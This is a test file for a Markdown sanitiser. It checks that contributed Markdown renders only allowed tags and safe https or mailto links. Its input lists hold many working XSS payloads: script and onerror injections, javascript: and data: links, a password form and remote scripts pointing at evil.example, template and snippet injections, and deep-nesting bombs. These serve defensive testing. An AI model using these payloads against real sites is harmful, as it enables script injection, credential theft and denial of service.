"""Contributed Markdown: what it becomes, and that it stays that in any Markdown body."""

import re
import string
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown import Markdown
from markupsafe import Markup

from forms import examples
from showcase.markup import render

TAGS = {
    *("p", "br", "hr", "ul", "ol", "li", "blockquote", "pre", "code", "em", "strong", "a"),
    *("h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
REL = "nofollow ugc noopener noreferrer"

# What may read the body later: much of what people switch on.
EXTENSIONS = [
    *("tables", "attr_list", "md_in_html", "toc", "admonition", "footnotes", "abbr", "def_list"),
    *("meta", "sane_lists", "smarty", "wikilinks", "nl2br"),
    *(
        f"pymdownx.{name}"
        for name in (
            *("superfences", "tasklist", "details", "tabbed", "critic", "snippets", "magiclink"),
            *("betterem", "tilde", "caret", "mark", "keys", "smartsymbols", "inlinehilite"),
            *("highlight", "arithmatex", "pathconverter", "escapeall", "progressbar"),
            *("blocks.admonition", "blocks.html", "blocks.details", "blocks.tab"),
        )
    ),
]

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'></mi></math>",
    "<details open ontoggle=alert(1)>x</details>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<style>*{display:none}</style>",
    "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password></form>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><xmp><script>alert(1)</script></xmp>",
    "<title></title><select><option>x</select><object data=x></object><embed src=x>",
    '<p onclick="alert(1)" title="x" lang="de" id="__config" class="md-search" style="x">y</p>',
    '<div markdown="1" onmouseover=alert(1)>*x*</div>',
    '<h1 id="__config">x</h1>',
    "<autoref identifier=x>y</autoref>",
    "<custom-element x=y>z</custom-element>",
    "<b><i><u><font color=red><center><marquee>x",
]
LINKS = [
    "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](<java\tscript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>) [x](vbscript:x) [x](file:///etc/passwd)",
    "[x](/servers/) [x](//evil.example) [x](\\\\evil.example) [x](#top) [x](?q) [x](x.md) [x]()",
    "[x](http://example.org) [x](ftp://example.org) [x](tel:123)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)> <a href='java&#9;script:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a> <a href=//evil.example>y</a>",
    "<a href='https://discord.com@evil.example/'>x</a> <a href='https://127.0.0.1/'>y</a>",
    "<a href='https://example.org/' target=_top rel=opener ping=https://evil.example onclick=x>x</a>",
    '<a href="https://example.org/\n```\n--8<--\nmkdocs.yml\n--8<--\n{{ 7*7 }}\n```">x</a>',
    '<a href="https://example.org/\n~~~\n# x\n~~~ {: onclick=x }\n\'">x</a>',
    "<a href='mailto:a@example.org?body=\n```\n{{ x }}'>x</a> <a href='mailto:'>y</a>",
    "<a href='/x'><table><tr><td><a href='https://example.org'>in</a></td></tr></table>out</a>",
    "![x](https://example.org/x.png) ![x](javascript:alert(1)) [![x](x.png)](https://example.org)",
]
SYNTAX = [
    "--8<-- \"mkdocs.yml\"\n\n--8<--\nmkdocs.yml\n--8<--\n\n;--8<-- 'x'",
    ":smile: :material-account: [[wiki link]] ++ctrl+alt++ ==mark== ~sub~ ^sup^ {++add++}{>>x<<}",
    "{{ 7*7 }} {% include 'x' %} {# x #} ${x} $x$ $$y$$ \\(z\\)",
    "text {: onclick=alert(1) }\n\n# heading {: #__config onclick=alert(1) }\n\n*x*{: .y }",
    '!!! note\n    x\n\n??? tip\n    y\n\n=== "tab"\n    z\n\n/// html | script\nalert(1)\n///',
    "[^1]\n\n[^1]: note\n\n*[HTML]: abbreviation\n\nHTML\n\nterm\n:   definition\n\n[TOC]",
    '- [ ] task\n- [x] done\n\n[=50% "half"]',
    "```\n# x\n\n~~~\n\n{: x }\n```\n\n~~~ { .py onclick=alert(1) }\n```\n~~~",
    '````\n```\n--8<-- "x"\n```\n````\n\n``` mermaid\ngraph TD\n```',
    "```\nunclosed\n\n# x",
    "| `a|b` | {{ x }} |\n|---|:-:|\n| [x](javascript:x) | <img src=x onerror=x> |\n| ``` | ~~~ |",
    "---\ntitle: </title><script>alert(1)</script>\ntemplate: x.html\n---\n\nx",
    "&#60;script&#62;alert(1)&#60;/script&#62; &lt;b&gt; &amp;lt; &#x3c;",
    "&#8238;evil&#8236; &rlm;&lrm;&zwnj;&zwj;&shy;&#xFEFF;&#xE0041; &#27;[31m &#127; &#x9b;",
    "&#2;wzxhzdk:0&#3; &#2;klzzwxh:0&#3; \x02wzxhzdk:0\x03",
    "&#10;# x&#10;&#10;```&#10;&#9;y &NewLine;&Tab;",
    "<pre>\n\n\n# x\n```\n\n    y\n</pre>\n<code>a\n\n# b</code>",
    "<p>\n\n</p><p>\n\n# x\n\n</p>",
    "</div></div></body></html><div class=prose>",
    "<p>open <b>and <i>never closed\n\n<table><tr><td>x\n\n<ul><li>y\n\n<blockquote>z",
    "<![CDATA[<script>alert(1)</script>]]> <?php x ?> <!DOCTYPE html>",
    "a\u2028b\x85c\x0bd\x0ce\x1cf",
    "    indented\n\n    # code\n\n\tand a tab",
    "\\*escaped\\* \\`x\\` \\\\ \\[x\\](y)",
]
BOMBS = [
    "\n".join("    " * depth + "- x" for depth in range(300)),
    "\n".join("  " * depth + "- x" for depth in range(85)),
    "- " * 300 + "x",
    ">" * 300 + " x",
    "> " * 2000,
    "\n".join(">" * depth + " x" for depth in range(1, 88)),
    "<ul><li>" * 300,
    "<table><tr><td>" * 260,
    "<b>" * 1300,
    "<a href='https://example.org'>" * 130,
    "[" * 4000,
    "*a **b " * 570,
    "`" * 4000,
    "|" * 4000,
    "&" * 4000,
    "<!--" * 1000,
    "[a](<" * 600,
]
CORPUS = [*SCRIPTS, *LINKS, *SYNTAX, *BOMBS]


class Reader(HTMLParser):
    """Reads HTML into tags with attributes, and texts as they were written."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=False)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.raw = ""
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.raw += data

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)


def page_with(markup: str) -> str:
    body = f'Before.\n\n<div class="prose">\n{markup}\n</div>\n\n## After\n'
    return Markdown(extensions=EXTENSIONS).convert(body)


def assert_harmless(markup: Markup) -> None:
    reader = Reader(markup)
    assert {tag for tag, _ in reader.tags} - TAGS == set()
    assert reader.others == []
    assert set(reader.raw) & set(string.punctuation) == set()
    for tag, attributes in reader.tags:
        if tag != "a":
            assert attributes == {}
            continue
        href = attributes.get("href") or ""
        assert attributes == {"href": href, "rel": REL}
        assert re.fullmatch(r"(https://|mailto:)[^\s\"'<>`{}|\\\[\]^]+", href, re.IGNORECASE)


def assert_unchanged_in_a_page(markup: Markup) -> None:
    page = page_with(markup)
    before, found, rest = page.partition('<div class="prose">\n')
    inside, _, after = rest.rpartition("\n</div>")
    assert (before.strip(), bool(found)) == ("<p>Before.</p>", True)
    assert inside == markup
    assert re.fullmatch(r'\s*<h2 id="after">After</h2>\s*', after)


@pytest.mark.parametrize("source", CORPUS, ids=lambda source: ascii(source[:40]))
def test_hostile_markdown_leaves_nothing_but_prose(source: str) -> None:
    markup = render(source)
    assert_harmless(markup)
    assert_unchanged_in_a_page(markup)


FRAGMENTS = [
    *(
        "```",
        "~~~",
        "\n",
        "\n\n",
        "    ",
        "\t",
        "# ",
        "###### ",
        "- ",
        "1. ",
        "> ",
        "`",
        "``",
        "\\",
    ),
    *(
        "| a | b |\n|---|---|\n| c | d |\n",
        "|",
        "---\n",
        "===\n",
        "  \n",
        "word",
        "é",
        "👩‍👧",
        "*",
        "__",
    ),
    *("[x](https://example.org)", "[x](", "[a]: https://example.org\n", "[a]", "![i](", "a@b.org"),
    *(
        '<a href="https://example.org/',
        '<a href="',
        '">',
        "</a>",
        "<https://example.org>",
        "<",
        ">",
    ),
    *("<p>", "</p>", "<div>", "</div>", "<b>", "<pre>", "</pre>", "<code>", "</code>", "<table>"),
    *("<tr>", "<td>", "<h1>", "</h1>", "<ul>", "<li>", "<br>", "<hr>", "<svg>", "<style>", "<!--"),
    *("-->", "<![CDATA[", "<?x", '<p markdown="1">*x*</p>', "<math><mi>", "</", '"', "'", "&"),
    *(
        "{: onclick=x }",
        "{{ 7*7 }}",
        "{% x %}",
        '--8<-- "x"',
        ":smile:",
        "[TOC]",
        "[^1]",
        "[^1]: y",
    ),
    *(
        "!!! note\n    ",
        "??? x\n    ",
        '=== "t"\n    ',
        "/// html | script\n",
        "///",
        "*[a]: b",
        "$$",
    ),
    *("==m==", "{++x++}", "++a++", "[ ] ", "&#10;", "&#9;", "&#2;", "&#3;", "&#8238;", "&lt;b&gt;"),
    *("wzxhzdk:0", "klzzwxh:1", "\x02", "\x03", "\u2028"),
]


@settings(deadline=None, max_examples=examples(300))
@given(st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=3), max_size=14).map("".join))
def test_any_markdown_is_harmless_and_unchanged_in_a_page(source: str) -> None:
    markup = render(source)
    assert_harmless(markup)
    assert_unchanged_in_a_page(markup)


TABLE = (
    "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody>\n"
    "<tr><td><code>x</code></td><td><em>y</em></td></tr>\n</tbody></table>"
)


def seen(source: str) -> str:
    """Return what `source` becomes, without `rel` and with its texts to read."""
    markup = render(source).replace(f' rel="{REL}"', "")
    return re.sub(r"&#(\d+);", lambda number: chr(int(number[1])), markup)


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        (
            "One line\nand *more*, __strongly__.",
            "<p>One line\nand <em>more</em>, <strong>strongly</strong>.</p>",
        ),
        ("a  \nb", "<p>a<br>\nb</p>"),
        ("- a\n- b\n    - c", "<ul>\n<li>a</li>\n<li>b\n<ul>\n<li>c</li>\n</ul>\n</li>\n</ul>"),
        ("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>"),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
        ("Use `a < b`", "<p>Use <code>a < b</code></p>"),
        ("```python\nx = [1]\n\ny = `2`\n```", "<pre><code>x = [1]\n\ny = `2`\n</code></pre>"),
        (
            "| a | b |\n|---|--:|\n| `x` | *y* |",
            TABLE,
        ),
        ("---", "<hr>"),
        (
            "[x](https://example.org/a?b=1&c=2)",
            '<p><a href="https://example.org/a?b=1&amp;c=2">x</a></p>',
        ),
        ("<https://example.org>", '<p><a href="https://example.org">https://example.org</a></p>'),
        ("[x][r]\n\n[r]: https://example.org", '<p><a href="https://example.org">x</a></p>'),
        (
            "[x](<https://example.org/Conway's [life]>)",
            '<p><a href="https://example.org/Conway%27s%20%5Blife%5D">x</a></p>',
        ),
        ("<a@example.org>", '<p><a href="mailto:a@example.org">a@example.org</a></p>'),
        (
            "[x](mailto:a@example.org?subject=Hi%20you)",
            '<p><a href="mailto:a@example.org?subject=Hi%20you">x</a></p>',
        ),
        ("[guide](guide.md) and [home](/)", "<p>guide and home</p>"),
        ("![a picture](https://example.org/x.png) after", "<p> after</p>"),
        ('5 * 3 < 20 & "so" on_and_on', '<p>5 * 3 < 20 & "so" on_and_on</p>'),
        ("مرحبا 👩‍👩‍👧 می‌خواهم", "<p>مرحبا 👩‍👩‍👧 می‌خواهم</p>"),
        ("", ""),
    ],
)
def test_ordinary_prose_renders_as_expected(source: str, shown: str) -> None:
    assert seen(source) == shown


def test_headings_begin_below_those_of_the_page() -> None:
    source = "# a\n\n## b\n\n### c\n\n#### d\n\n##### e\n\n###### f\n\ng\n===\n\nh\n---"
    levels = ["h3", "h4", "h5", "h6", "h6", "h6", "h3", "h4"]
    assert [tag for tag, _ in Reader(render(source)).tags] == levels


def test_headings_have_no_ids() -> None:
    assert render("# __config") == "<h3>&#95;&#95;config</h3>"


def test_every_link_says_that_it_is_a_contributors() -> None:
    source = "[a](https://example.org) <https://example.org> <a href='https://example.org'>c</a>"
    rels = [attributes["rel"] for tag, attributes in Reader(render(source)).tags if tag == "a"]
    assert rels == [REL] * 3


def test_entities_cannot_spell_what_the_border_takes_out() -> None:
    source = "a&#8238;b&rlm;c&#xE0041;d&shy;e&#x200B;f&#27;g"
    assert render(source) == "<p>abcdefg</p>"


@pytest.mark.parametrize("source", [">" * 300 + " x", "> " * 1000 + "x", "<ul><li>" * 300 + "x"])
def test_what_nests_too_deep_to_read_is_shown_as_text(source: str) -> None:
    assert seen(source) == f"<p>{source}</p>"


def test_lists_in_lists_in_lists_are_not_too_deep() -> None:
    source = "\n".join("    " * depth + "- x" for depth in range(15))
    assert render(source).count("<ul>") == 15


def test_the_result_is_markup_and_text_is_not() -> None:
    assert isinstance(render("x"), Markup)
    assert Markup("{}").format("<b>") == "&lt;b&gt;"
